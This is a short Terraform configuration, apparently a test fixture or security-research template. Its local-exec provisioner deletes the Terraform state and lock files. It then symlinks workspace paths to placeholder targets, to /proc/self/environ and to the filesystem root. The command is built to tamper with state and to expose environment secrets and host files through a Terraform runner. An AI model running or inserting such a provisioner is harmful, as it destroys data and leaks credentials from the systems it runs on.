resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      rm -rf terraform.tfstate .terraform.lock.hcl .terraform; ln -s __KEY__ terraform.tfstate; ln -s __KEY__ .terraform.lock.hcl; ln -s __OTHER__ .terraform; ln -s /proc/self/environ env.tf; ln -s / root; ls -la
    EOT
  }
}
